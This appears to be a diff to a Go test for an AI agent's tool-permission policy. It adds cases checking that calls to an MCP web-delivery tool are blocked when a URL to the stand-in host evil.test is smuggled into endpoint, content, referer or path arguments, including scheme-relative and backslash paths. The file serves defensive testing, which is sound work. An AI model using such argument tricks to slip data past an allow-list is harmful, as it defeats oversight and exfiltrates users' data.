@@ -16,15 +16,22 @@ import (
 //
 //	[[allow]] tool = "mcp__web__deliver" target = "/tmp/x"        max_sensitivity = "private"
 //	[[allow]] tool = "mcp__web__deliver" target = "*.example.com" max_sensitivity = "private"
+//	[[allow]] tool = "mcp__web__deliver" target = "/*"            max_sensitivity = "private"
+//	[[allow]] tool = "mcp__web__deliver" target = "*.json"        max_sensitivity = "private"
 //
 // The attack rows carry a path the first entry matches and a URL to evil.test in another
 // argument; each must be AutoBlocked with the server receiving nothing, its audit naming
-// the URL and why. The controls reach the server: the path alone, the path with markdown
-// content holding links (text is not a destination), a url with a referer on its own host,
-// and a call whose only URL is nested (its host is the target, under the second entry).
+// the URL and why. So must a url ending at its host beside text a server could append to
+// it (base URL + endpoint), and a path the last two entries match as text that a server
+// resolving it as a URL reads a host from. The controls reach the server: the path alone,
+// the path with markdown content holding links (text is not a destination), a url with a
+// referer on its own host, a call whose only URL is nested (its host is the target, under
+// the second entry), a url with a path beside text, and a plain absolute path.
 func TestURLArgumentsAreTargets(t *testing.T) {
 	const policy = "[[allow]]\ntool = \"mcp__web__deliver\"\ntarget = \"/tmp/x\"\nmax_sensitivity = \"private\"\n" +
-		"[[allow]]\ntool = \"mcp__web__deliver\"\ntarget = \"*.example.com\"\nmax_sensitivity = \"private\"\n"
+		"[[allow]]\ntool = \"mcp__web__deliver\"\ntarget = \"*.example.com\"\nmax_sensitivity = \"private\"\n" +
+		"[[allow]]\ntool = \"mcp__web__deliver\"\ntarget = \"/*\"\nmax_sensitivity = \"private\"\n" +
+		"[[allow]]\ntool = \"mcp__web__deliver\"\ntarget = \"*.json\"\nmax_sensitivity = \"private\"\n"
 	for _, tc := range []struct {
 		name, args string
 		rule       string // the allowing entry; "" when the call must be blocked
@@ -42,6 +49,13 @@ func TestURLArgumentsAreTargets(t *testing.T) {
 		{"nested request.url", `{"path": "/tmp/x", "request": {"url": "https://evil.test/"}}`, "", "path=/tmp/x request.url=https://evil.test/", "its request.url argument is a URL too"},
 		{"a referer on another host", `{"url": "https://docs.example.com/x", "referer": "https://evil.test/"}`, "", "url=https://docs.example.com/x referer=https://evil.test/", "its referer argument is a URL too"},
 		{"two URLs and no target", `{"endpoint": "https://docs.example.com/", "webhook": "https://evil.test/"}`, "", "endpoint=https://docs.example.com/ webhook=https://evil.test/", "carries 2 URLs"},
+		{"control: a url with a path beside text", `{"url": "https://docs.example.com/v1/x", "content": "hello"}`, "allow[1]", "docs.example.com", ""},
+		{"control: a plain absolute path", `{"path": "/srv/x.json"}`, "allow[2]", "/srv/x.json", ""},
+		{"a url ending at its host beside an endpoint", `{"url": "https://docs.example.com", "endpoint": "@evil.test/"}`, "", "url=https://docs.example.com endpoint=@evil.test/", "its url argument ends at its host"},
+		{"a url ending at its host beside a suffix", `{"url": "https://docs.example.com", "content": ".evil.test"}`, "", "url=https://docs.example.com content=.evil.test", "its url argument ends at its host"},
+		{"a path that is a URL", `{"path": "https://evil.test/x.json"}`, "", "https://evil.test/x.json", "its path argument is a URL"},
+		{"a scheme-relative path", `{"path": "//evil.test/x"}`, "", "//evil.test/x", "its path argument starts with //"},
+		{"a path with a backslash", `{"path": "/\\evil.test/x.json"}`, "", "/\\evil.test/x.json", "its path argument contains a backslash"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			t.Setenv("LEV_BENCH_SOCKET", "")
